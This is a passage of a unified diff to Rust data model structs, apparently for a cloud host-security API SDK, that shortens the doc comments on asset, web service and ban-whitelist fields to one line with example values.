+    /// `Gid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub gid: String,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: u64,
 
-    /// `IsRoot`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsRoot`; example: `1`
     pub is_root: u64,
 
-    /// `LoginType`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `LoginType`; example: `1`
     pub login_type: u64,
 
-    /// `LastLoginTime`: a string.
-    ///
-    /// Example: `"1"`
+    /// `LastLoginTime`; example: `"1"`
     pub last_login_time: String,
 
-    /// `Name`: a string.
-    ///
-    /// Example: `"admin"`
+    /// `Name`; example: `"admin"`
     pub name: String,
 
-    /// `ProjectId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `ProjectId`; example: `1`
     pub project_id: u64,
 
-    /// `UserType`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `UserType`; example: `1`
     pub user_type: u64,
 
-    /// `IsDomain`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsDomain`; example: `1`
     pub is_domain: u64,
 
-    /// `IsSudo`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsSudo`; example: `1`
     pub is_sudo: u64,
 
-    /// `IsSshLogin`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsSshLogin`; example: `1`
     pub is_ssh_login: u64,
 
-    /// `HomePath`: a string.
-    ///
-    /// Example: `"1"`
+    /// `HomePath`; example: `"1"`
     pub home_path: String,
 
-    /// `Shell`: a string.
-    ///
-    /// Example: `"1"`
+    /// `Shell`; example: `"1"`
     pub shell: String,
 
-    /// `ShellLoginStatus`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `ShellLoginStatus`; example: `1`
     pub shell_login_status: u64,
 
-    /// `PasswordChangeTime`: a string.
-    ///
-    /// Example: `"2024-10-22 19:40:38"`
+    /// `PasswordChangeTime`; example: `"2024-10-22 19:40:38"`
     pub password_change_time: String,
 
-    /// `PasswordDueTime`: a string.
-    ///
-    /// Example: `"2024-10-22 19:40:38"`
+    /// `PasswordDueTime`; example: `"2024-10-22 19:40:38"`
     pub password_due_time: String,
 
-    /// `PasswordLockDays`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `PasswordLockDays`; example: `1`
     pub password_lock_days: i64,
 
-    /// `PasswordStatus`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `PasswordStatus`; example: `1`
     pub password_status: i64,
 
-    /// `UpdateTime`: a string.
-    ///
-    /// Example: `"2011-11-11 12:12:12"`
+    /// `UpdateTime`; example: `"2011-11-11 12:12:12"`
     pub update_time: String,
 
-    /// `FirstTime`: a string.
-    ///
-    /// Example: `"2011-11-11 12:12:12"`
+    /// `FirstTime`; example: `"2011-11-11 12:12:12"`
     pub first_time: String,
 
-    /// `IsNew`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsNew`; example: `1`
     pub is_new: i64,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 }
 
@@ -1969,149 +1275,91 @@ pub struct AssetUserBaseInfo {
 /// Returned in the output of [`DescribeAssetUserInfo`](super::DescribeAssetUserInfo).
 #[tc_model]
 pub struct AssetUserDetail {
-    /// `MachineIp`: a string.
-    ///
-    /// Example: `"10.0.0.11"`
+    /// `MachineIp`; example: `"10.0.0.11"`
     pub machine_ip: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"test-ins"`
+    /// `MachineName`; example: `"test-ins"`
     pub machine_name: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Uuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub uuid: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Quuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub quuid: String,
 
-    /// `Uid`: a string.
-    ///
-    /// Example: `"134393481"`
+    /// `Uid`; example: `"134393481"`
     pub uid: String,
 
-    /// `Gid`: a string.
-    ///
-    /// Example: `"1001"`
+    /// `Gid`; example: `"1001"`
     pub gid: String,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: u64,
 
-    /// `IsRoot`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsRoot`; example: `1`
     pub is_root: u64,
 
-    /// `LastLoginTime`: a string.
-    ///
-    /// Example: `"2024-10-22 19:44:19"`
+    /// `LastLoginTime`; example: `"2024-10-22 19:44:19"`
     pub last_login_time: String,
 
-    /// `Name`: a string.
-    ///
-    /// Example: `"test_user"`
+    /// `Name`; example: `"test_user"`
     pub name: String,
 
-    /// `UserType`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `UserType`; example: `1`
     pub user_type: u64,
 
-    /// `IsDomain`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsDomain`; example: `1`
     pub is_domain: u64,
 
-    /// `IsSshLogin`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsSshLogin`; example: `1`
     pub is_ssh_login: u64,
 
-    /// `HomePath`: a string.
-    ///
-    /// Example: `"1"`
+    /// `HomePath`; example: `"1"`
     pub home_path: String,
 
-    /// `Shell`: a string.
-    ///
-    /// Example: `"/root"`
+    /// `Shell`; example: `"/root"`
     pub shell: String,
 
-    /// `ShellLoginStatus`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `ShellLoginStatus`; example: `1`
     pub shell_login_status: u64,
 
-    /// `PasswordChangeTime`: a string.
-    ///
-    /// Example: `"2024-10-22 19:44:42"`
+    /// `PasswordChangeTime`; example: `"2024-10-22 19:44:42"`
     pub password_change_time: String,
 
-    /// `PasswordDueTime`: a string.
-    ///
-    /// Example: `"2024-10-22 19:44:42"`
+    /// `PasswordDueTime`; example: `"2024-10-22 19:44:42"`
     pub password_due_time: String,
 
-    /// `PasswordLockDays`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `PasswordLockDays`; example: `1`
     pub password_lock_days: i64,
 
-    /// `Remark`: a string.
-    ///
-    /// Example: `"no login"`
+    /// `Remark`; example: `"no login"`
     pub remark: String,
 
-    /// `GroupName`: a string.
-    ///
-    /// Example: `"staffs"`
+    /// `GroupName`; example: `"staffs"`
     pub group_name: String,
 
-    /// `DisableTime`: a string.
-    ///
-    /// Example: `"2024-10-22 19:44:42"`
+    /// `DisableTime`; example: `"2024-10-22 19:44:42"`
     pub disable_time: String,
 
-    /// `LastLoginTerminal`: a string.
-    ///
-    /// Example: `"1"`
+    /// `LastLoginTerminal`; example: `"1"`
     pub last_login_terminal: String,
 
-    /// `LastLoginLoc`: a string.
-    ///
-    /// Example: `"usa"`
+    /// `LastLoginLoc`; example: `"usa"`
     pub last_login_loc: String,
 
-    /// `LastLoginIp`: a string.
-    ///
-    /// Example: `"1.1.1.1"`
+    /// `LastLoginIp`; example: `"1.1.1.1"`
     pub last_login_ip: String,
 
-    /// `PasswordWarnDays`: an unsigned 64-bit integer.
-    ///
-    /// Example: `10`
+    /// `PasswordWarnDays`; example: `10`
     pub password_warn_days: u64,
 
-    /// `PasswordChangeType`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `PasswordChangeType`; example: `1`
     pub password_change_type: u64,
 
-    /// `Keys`: a list of [`AssetUserKeyInfo`] objects.
-    ///
-    /// Example: `[{"Comment":"name","EncryptType":"md5","Value":"test1"}]`
+    /// `Keys`; example: `[{"Comment":"name","EncryptType":"md5","Value":"test1"}]`
     pub keys: Vec<AssetUserKeyInfo>,
 
-    /// `UpdateTime`: a string.
-    ///
-    /// Example: `"2011-11-11 12:12:12"`
+    /// `UpdateTime`; example: `"2011-11-11 12:12:12"`
     pub update_time: String,
 }
 
@@ -2120,19 +1368,13 @@ pub struct AssetUserDetail {
 /// Returned in the output of [`DescribeAssetUserInfo`](super::DescribeAssetUserInfo) and [`DescribeAssetUserKeyList`](super::DescribeAssetUserKeyList).
 #[tc_model]
 pub struct AssetUserKeyInfo {
-    /// `Value`: a string.
-    ///
-    /// Example: `"value1"`
+    /// `Value`; example: `"value1"`
     pub value: String,
 
-    /// `Comment`: a string.
-    ///
-    /// Example: `"comment"`
+    /// `Comment`; example: `"comment"`
     pub comment: String,
 
-    /// `EncryptType`: a string.
-    ///
-    /// Example: `"aes"`
+    /// `EncryptType`; example: `"aes"`
     pub encrypt_type: String,
 }
 
@@ -2141,105 +1383,67 @@ pub struct AssetUserKeyInfo {
 /// Returned in the output of [`DescribeAssetWebAppList`](super::DescribeAssetWebAppList).
 #[tc_model]
 pub struct AssetWebAppBaseInfo {
-    /// `MachineIp`: a string.
-    ///
-    /// Example: `"10.0.0.11"`
+    /// `MachineIp`; example: `"10.0.0.11"`
     pub machine_ip: String,
 
-    /// `MachineWanIp`: a string.
-    ///
-    /// Example: `"112.56.**.**"`
+    /// `MachineWanIp`; example: `"112.56.**.**"`
     pub machine_wan_ip: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Quuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub quuid: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Uuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub uuid: String,
 
-    /// `OsInfo`: a string.
-    ///
-    /// Example: `"Centos 64Bit"`
+    /// `OsInfo`; example: `"Centos 64Bit"`
     pub os_info: String,
 
-    /// `ProjectId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `ProjectId`; example: `1`
     pub project_id: u64,
 
-    /// `Tag`: a list of [`MachineTag`] objects.
+    /// `Tag`
     pub tag: Vec<MachineTag>,
 
-    /// `Name`: a string.
-    ///
-    /// Example: `"Nginx"`
+    /// `Name`; example: `"Nginx"`
     pub name: String,
 
-    /// `Version`: a string.
-    ///
-    /// Example: `"1.0.1"`
+    /// `Version`; example: `"1.0.1"`
     pub version: String,
 
-    /// `RootPath`: a string.
-    ///
-    /// Example: `"/root"`
+    /// `RootPath`; example: `"/root"`
     pub root_path: String,
 
-    /// `ServiceType`: a string.
-    ///
-    /// Example: `"Web"`
+    /// `ServiceType`; example: `"Web"`
     pub service_type: String,
 
-    /// `Domain`: a string.
-    ///
-    /// Example: `"www.**.com"`
+    /// `Domain`; example: `"www.**.com"`
     pub domain: String,
 
-    /// `VirtualPath`: a string.
-    ///
-    /// Example: `"/data/tmp"`
+    /// `VirtualPath`; example: `"/data/tmp"`
     pub virtual_path: String,
 
-    /// `PluginCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `10`
+    /// `PluginCount`; example: `10`
     pub plugin_count: u64,
 
-    /// `Id`: a string.
-    ///
-    /// Example: `"10001"`
+    /// `Id`; example: `"10001"`
     pub id: String,
 
-    /// `Desc`: a string.
-    ///
-    /// Example: `"no name"`
+    /// `Desc`; example: `"no name"`
     pub desc: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"agent-domain"`
+    /// `MachineName`; example: `"agent-domain"`
     pub machine_name: String,
 
-    /// `UpdateTime`: a string.
-    ///
-    /// Example: `"2011-11-11 12:12:12"`
+    /// `UpdateTime`; example: `"2011-11-11 12:12:12"`
     pub update_time: String,
 
-    /// `FirstTime`: a string.
-    ///
-    /// Example: `"2022-07-15 11:27:01"`
+    /// `FirstTime`; example: `"2022-07-15 11:27:01"`
     pub first_time: String,
 
-    /// `IsNew`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsNew`; example: `1`
     pub is_new: i64,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 }
 
@@ -2248,24 +1452,16 @@ pub struct AssetWebAppBaseInfo {
 /// Returned in the output of [`DescribeAssetWebAppPluginList`](super::DescribeAssetWebAppPluginList).
 #[tc_model]
 pub struct AssetWebAppPluginInfo {
-    /// `Name`: a string.
-    ///
-    /// Example: `"test-app"`
+    /// `Name`; example: `"test-app"`
     pub name: String,
 
-    /// `Desc`: a string.
-    ///
-    /// Example: `"memo"`
+    /// `Desc`; example: `"memo"`
     pub desc: String,
 
-    /// `Version`: a string.
-    ///
-    /// Example: `"10.0.1"`
+    /// `Version`; example: `"10.0.1"`
     pub version: String,
 
-    /// `Link`: a string.
-    ///
-    /// Example: `"/usr/bin/name"`
+    /// `Link`; example: `"/usr/bin/name"`
     pub link: String,
 }
 
@@ -2274,87 +1470,55 @@ pub struct AssetWebAppPluginInfo {
 /// Returned in the output of [`DescribeAssetWebFrameList`](super::DescribeAssetWebFrameList).
 #[tc_model]
 pub struct AssetWebFrameBaseInfo {
-    /// `MachineIp`: a string.
-    ///
-    /// Example: `"1.1.1.1."`
+    /// `MachineIp`; example: `"1.1.1.1."`
     pub machine_ip: String,
 
-    /// `MachineWanIp`: a string.
-    ///
-    /// Example: `"1.1.1.1"`
+    /// `MachineWanIp`; example: `"1.1.1.1"`
     pub machine_wan_ip: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Quuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub quuid: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Uuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub uuid: String,
 
-    /// `OsInfo`: a string.
-    ///
-    /// Example: `"Centos 64Bit"`
+    /// `OsInfo`; example: `"Centos 64Bit"`
     pub os_info: String,
 
-    /// `ProjectId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `ProjectId`; example: `1`
     pub project_id: u64,
 
-    /// `Tag`: a list of [`MachineTag`] objects.
-    ///
-    /// Example: `[{"Name":"tag-01","Rid":0,"TagId":1}]`
+    /// `Tag`; example: `[{"Name":"tag-01","Rid":0,"TagId":1}]`
     pub tag: Vec<MachineTag>,
 
-    /// `Name`: a string.
-    ///
-    /// Example: `"Nginx"`
+    /// `Name`; example: `"Nginx"`
     pub name: String,
 
-    /// `Version`: a string.
-    ///
-    /// Example: `"1.0.1"`
+    /// `Version`; example: `"1.0.1"`
     pub version: String,
 
-    /// `Lang`: a string.
-    ///
-    /// Example: `"eng"`
+    /// `Lang`; example: `"eng"`
     pub lang: String,
 
-    /// `ServiceType`: a string.
-    ///
-    /// Example: `"tcp"`
+    /// `ServiceType`; example: `"tcp"`
     pub service_type: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"主机名称"`
+    /// `MachineName`; example: `"主机名称"`
     pub machine_name: String,
 
-    /// `UpdateTime`: a string.
-    ///
-    /// Example: `"2011-11-11 12:12:12"`
+    /// `UpdateTime`; example: `"2011-11-11 12:12:12"`
     pub update_time: String,
 
-    /// `FirstTime`: a string.
-    ///
-    /// Example: `"2022-07-15 11:27:01"`
+    /// `FirstTime`; example: `"2022-07-15 11:27:01"`
     pub first_time: String,
 
-    /// `IsNew`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsNew`; example: `1`
     pub is_new: i64,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 
-    /// `Path`: a string.
-    ///
-    /// Example: `"/root"`
+    /// `Path`; example: `"/root"`
     pub path: String,
 }
 
@@ -2363,112 +1527,70 @@ pub struct AssetWebFrameBaseInfo {
 /// Returned in the output of [`DescribeAssetWebLocationList`](super::DescribeAssetWebLocationList).
 #[tc_model]
 pub struct AssetWebLocationBaseInfo {
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Uuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub uuid: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Quuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub quuid: String,
 
-    /// `MachineIp`: a string.
-    ///
-    /// Example: `"10.0.11"`
+    /// `MachineIp`; example: `"10.0.11"`
     pub machine_ip: String,
 
-    /// `MachineWanIp`: a string.
-    ///
-    /// Example: `"112.54.121.11"`
+    /// `MachineWanIp`; example: `"112.54.121.11"`
     pub machine_wan_ip: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"test-ins"`
+    /// `MachineName`; example: `"test-ins"`
     pub machine_name: String,
 
-    /// `OsInfo`: a string.
-    ///
-    /// Example: `"centos 64bit"`
+    /// `OsInfo`; example: `"centos 64bit"`
     pub os_info: String,
 
-    /// `Name`: a string.
-    ///
-    /// Example: `"test.com"`
+    /// `Name`; example: `"test.com"`
     pub name: String,
 
-    /// `Port`: a string.
-    ///
-    /// Example: `"22"`
+    /// `Port`; example: `"22"`
     pub port: String,
 
-    /// `Proto`: a string.
-    ///
-    /// Example: `"http"`
+    /// `Proto`; example: `"http"`
     pub proto: String,
 
-    /// `ServiceType`: a string.
-    ///
-    /// Example: `"1"`
+    /// `ServiceType`; example: `"1"`
     pub service_type: String,
 
-    /// `PathCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `PathCount`; example: `1`
     pub path_count: u64,
 
-    /// `User`: a string.
-    ///
-    /// Example: `"root"`
+    /// `User`; example: `"root"`
     pub user: String,
 
-    /// `MainPath`: a string.
-    ///
-    /// Example: `"/root"`
+    /// `MainPath`; example: `"/root"`
     pub main_path: String,
 
-    /// `MainPathOwner`: a string.
-    ///
-    /// Example: `"1"`
+    /// `MainPathOwner`; example: `"1"`
     pub main_path_owner: String,
 
-    /// `Permission`: a string.
-    ///
-    /// Example: `"1"`
+    /// `Permission`; example: `"1"`
     pub permission: String,
 
-    /// `ProjectId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `ProjectId`; example: `1`
     pub project_id: u64,
 
-    /// `Tag`: a list of [`MachineTag`] objects.
-    ///
-    /// Example: `[{"Name":"tag-01","Rid":0,"TagId":1}]`
+    /// `Tag`; example: `[{"Name":"tag-01","Rid":0,"TagId":1}]`
     pub tag: Vec<MachineTag>,
 
-    /// `Id`: a string.
-    ///
-    /// Example: `"1"`
+    /// `Id`; example: `"1"`
     pub id: String,
 
-    /// `UpdateTime`: a string.
-    ///
-    /// Example: `"2011-11-11 12:12:12"`
+    /// `UpdateTime`; example: `"2011-11-11 12:12:12"`
     pub update_time: String,
 
-    /// `FirstTime`: a string.
-    ///
-    /// Example: `"2022-07-15 11:27:01"`
+    /// `FirstTime`; example: `"2022-07-15 11:27:01"`
     pub first_time: String,
 
-    /// `IsNew`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsNew`; example: `1`
     pub is_new: i64,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 }
 
@@ -2477,54 +1599,34 @@ pub struct AssetWebLocationBaseInfo {
 /// Returned in the output of [`DescribeAssetWebLocationInfo`](super::DescribeAssetWebLocationInfo).
 #[tc_model]
 pub struct AssetWebLocationInfo {
-    /// `Name`: a string.
-    ///
-    /// Example: `"tencent.com"`
+    /// `Name`; example: `"tencent.com"`
     pub name: String,
 
-    /// `Port`: a string.
-    ///
-    /// Example: `"22"`
+    /// `Port`; example: `"22"`
     pub port: String,
 
-    /// `Proto`: a string.
-    ///
-    /// Example: `"tcp"`
+    /// `Proto`; example: `"tcp"`
     pub proto: String,
 
-    /// `ServiceType`: a string.
-    ///
-    /// Example: `"web"`
+    /// `ServiceType`; example: `"web"`
     pub service_type: String,
 
-    /// `SafeStatus`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `SafeStatus`; example: `1`
     pub safe_status: u64,
 
-    /// `User`: a string.
-    ///
-    /// Example: `"root"`
+    /// `User`; example: `"root"`
     pub user: String,
 
-    /// `MainPath`: a string.
-    ///
-    /// Example: `"/data"`
+    /// `MainPath`; example: `"/data"`
     pub main_path: String,
 
-    /// `Command`: a string.
-    ///
-    /// Example: `"true"`
+    /// `Command`; example: `"true"`
     pub command: String,
 
-    /// `Ip`: a string.
-    ///
-    /// Example: `"0.0.0.0"`
+    /// `Ip`; example: `"0.0.0.0"`
     pub ip: String,
 
-    /// `UpdateTime`: a string.
-    ///
-    /// Example: `"2011-11-11 12:12:12"`
+    /// `UpdateTime`; example: `"2011-11-11 12:12:12"`
     pub update_time: String,
 }
 
@@ -2533,29 +1635,19 @@ pub struct AssetWebLocationInfo {
 /// Returned in the output of [`DescribeAssetWebLocationPathList`](super::DescribeAssetWebLocationPathList).
 #[tc_model]
 pub struct AssetWebLocationPath {
-    /// `VirtualPath`: a string.
-    ///
-    /// Example: `"/var/www/html"`
+    /// `VirtualPath`; example: `"/var/www/html"`
     pub virtual_path: String,
 
-    /// `RealPath`: a string.
-    ///
-    /// Example: `"/var/www/html"`
+    /// `RealPath`; example: `"/var/www/html"`
     pub real_path: String,
 
-    /// `User`: a string.
-    ///
-    /// Example: `"root"`
+    /// `User`; example: `"root"`
     pub user: String,
 
-    /// `Group`: a string.
-    ///
-    /// Example: `"root"`
+    /// `Group`; example: `"root"`
     pub group: String,
 
-    /// `Permission`: a string.
-    ///
-    /// Example: `"rwx**"`
+    /// `Permission`; example: `"rwx**"`
     pub permission: String,
 }
 
@@ -2564,107 +1656,67 @@ pub struct AssetWebLocationPath {
 /// Returned in the output of [`DescribeAssetWebServiceInfoList`](super::DescribeAssetWebServiceInfoList).
 #[tc_model]
 pub struct AssetWebServiceBaseInfo {
-    /// `MachineIp`: a string.
-    ///
-    /// Example: `"10.0.0.11"`
+    /// `MachineIp`; example: `"10.0.0.11"`
     pub machine_ip: String,
 
-    /// `MachineWanIp`: a string.
-    ///
-    /// Example: `"1.1.1.1"`
+    /// `MachineWanIp`; example: `"1.1.1.1"`
     pub machine_wan_ip: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Quuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub quuid: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Uuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub uuid: String,
 
-    /// `OsInfo`: a string.
-    ///
-    /// Example: `"Centos 64Bit"`
+    /// `OsInfo`; example: `"Centos 64Bit"`
     pub os_info: String,
 
-    /// `ProjectId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `ProjectId`; example: `1`
     pub project_id: u64,
 
-    /// `Tag`: a list of [`MachineTag`] objects.
-    ///
-    /// Example: `[{"Name":"name-01","Rid":0,"TagId":1}]`
+    /// `Tag`; example: `[{"Name":"name-01","Rid":0,"TagId":1}]`
     pub tag: Vec<MachineTag>,
 
-    /// `Name`: a string.
-    ///
-    /// Example: `"Nginx"`
+    /// `Name`; example: `"Nginx"`
     pub name: String,
 
-    /// `Version`: a string.
-    ///
-    /// Example: `"1.0.1"`
+    /// `Version`; example: `"1.0.1"`
     pub version: String,
 
-    /// `BinPath`: a string.
-    ///
-    /// Example: `"/usr/bin"`
+    /// `BinPath`; example: `"/usr/bin"`
     pub bin_path: String,
 
-    /// `User`: a string.
-    ///
-    /// Example: `"root"`
+    /// `User`; example: `"root"`
     pub user: String,
 
-    /// `InstallPath`: a string.
-    ///
-    /// Example: `"/root"`
+    /// `InstallPath`; example: `"/root"`
     pub install_path: String,
 
-    /// `ConfigPath`: a string.
-    ///
-    /// Example: `"/root"`
+    /// `ConfigPath`; example: `"/root"`
     pub config_path: String,
 
-    /// `ProcessCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `ProcessCount`; example: `1`
     pub process_count: u64,
 
-    /// `Id`: a string.
-    ///
-    /// Example: `"1001"`
+    /// `Id`; example: `"1001"`
     pub id: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"agentinstance"`
+    /// `MachineName`; example: `"agentinstance"`
     pub machine_name: String,
 
-    /// `Desc`: a string.
-    ///
-    /// Example: `"1"`
+    /// `Desc`; example: `"1"`
     pub desc: String,
 
-    /// `UpdateTime`: a string.
-    ///
-    /// Example: `"2011-11-11 12:12:12"`
+    /// `UpdateTime`; example: `"2011-11-11 12:12:12"`
     pub update_time: String,
 
-    /// `FirstTime`: a string.
-    ///
-    /// Example: `"2022-07-15 11:27:01"`
+    /// `FirstTime`; example: `"2022-07-15 11:27:01"`
     pub first_time: String,
 
-    /// `IsNew`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsNew`; example: `1`
     pub is_new: i64,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 }
 
@@ -2673,50 +1725,28 @@ pub struct AssetWebServiceBaseInfo {
 /// Sent in the input of [`CreateBanWhiteList`](super::CreateBanWhiteList) and [`ModifyBanWhiteList`](super::ModifyBanWhiteList).
 #[tc_model]
 pub struct BanWhiteList {
-    /// `Id`: a string.
-    /// Always sent in responses.
-    ///
-    /// Example: `"id_10001"`
+    /// `Id`, always sent in responses; example: `"id_10001"`
     pub id: Option<String>,
 
-    /// `Remark`: a string.
-    /// Always sent in responses.
-    ///
-    /// Example: `"别名"`
+    /// `Remark`, always sent in responses; example: `"别名"`
     pub remark: Option<String>,
 
-    /// `SrcIp`: a string.
-    /// Always sent in responses.
-    ///
-    /// Example: `"1.1.1.1"`
+    /// `SrcIp`, always sent in responses; example: `"1.1.1.1"`
     pub src_ip: Option<String>,
 
-    /// `ModifyTime`: a date and time, as the service writes it.
-    /// Always sent in responses.
-    ///
-    /// Example: `"2021-01-01 00:00:00"`
+    /// `ModifyTime`, a date and time as the service writes it, always sent in responses; example: `"2021-01-01 00:00:00"`
     pub modify_time: Option<String>,
 
-    /// `CreateTime`: a date and time, as the service writes it.
-    /// Always sent in responses.
-    ///
-    /// Example: `"2021-01-01 00:00:00"`
+    /// `CreateTime`, a date and time as the service writes it, always sent in responses; example: `"2021-01-01 00:00:00"`
     pub create_time: Option<String>,
 
-    /// `Uuid`: a string.
-    /// Always sent in responses.
-    ///
-    /// Example: `"1ce68339-8828-457f-b358-d5b1b34e4fe9"`
+    /// `Uuid`, always sent in responses; example: `"1ce68339-8828-457f-b358-d5b1b34e4fe9"`
     pub uuid: Option<String>,
 
-    /// `IsGlobal`: a boolean.
-    /// Always sent in responses.
-    ///
-    /// Example: `false`
+    /// `IsGlobal`, always sent in responses; example: `false`
     pub is_global: Option<bool>,
 
-    /// `Quuids`: a list of strings.
-    /// Always sent in responses.
+    /// `Quuids`, always sent in responses
     pub quuids: Option<Vec<String>>,
 }
 
@@ -2725,54 +1755,34 @@ pub struct BanWhiteList {
 /// Returned in the output of [`DescribeBanWhiteList`](super::DescribeBanWhiteList).
 #[tc_model]
 pub struct BanWhiteListDetail {
-    /// `Id`: a string.
-    ///
-    /// Example: `"1"`
+    /// `Id`; example: `"1"`
     pub id: String,
 
-    /// `Remark`: a string.
-    ///
-    /// Example: `"remarkName"`
+    /// `Remark`; example: `"remarkName"`
     pub remark: String,
 
-    /// `SrcIp`: a string.
-    ///
-    /// Example: `"10.0.0.1"`
+    /// `SrcIp`; example: `"10.0.0.1"`
     pub src_ip: String,
 
-    /// `ModifyTime`: a date and time, as the service writes it.
-    ///
-    /// Example: `"2021-03-03 16:05:00"`
+    /// `ModifyTime`, a date and time as the service writes it; example: `"2021-03-03 16:05:00"`
     pub modify_time: String,
 
-    /// `CreateTime`: a date and time, as the service writes it.
-    ///
-    /// Example: `"2021-03-03 16:05:00"`
+    /// `CreateTime`, a date and time as the service writes it; example: `"2021-03-03 16:05:00"`
     pub create_time: String,
 
-    /// `IsGlobal`: a boolean.
-    ///
-    /// Example: `false`
+    /// `IsGlobal`; example: `false`
     pub is_global: bool,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"059cb8b1-98c7-4e44-8345-ba9d87d722e2"`
+    /// `Quuid`; example: `"059cb8b1-98c7-4e44-8345-ba9d87d722e2"`
     pub quuid: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"059cb8b1-98c7-4e44-8345-ba9d87d722e2"`
+    /// `Uuid`; example: `"059cb8b1-98c7-4e44-8345-ba9d87d722e2"`
     pub uuid: String,
 
-    /// `MachineIp`: a string.
-    ///
-    /// Example: `"10.0.0.2"`
+    /// `MachineIp`; example: `"10.0.0.2"`
     pub machine_ip: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"machineName"`
+    /// `MachineName`; example: `"machineName"`
     pub machine_name: String,
 }
 
@@ -2781,19 +1791,13 @@ pub struct BanWhiteListDetail {
 /// Returned in the output of [`DescribeBaselineBasicInfo`](super::DescribeBaselineBasicInfo).
 #[tc_model]
 pub struct BaselineBasicInfo {
-    /// `Name`: a string.
-    ///
-    /// Example: `"等保合规"`
+    /// `Name`; example: `"等保合规"`
     pub name: String,
 
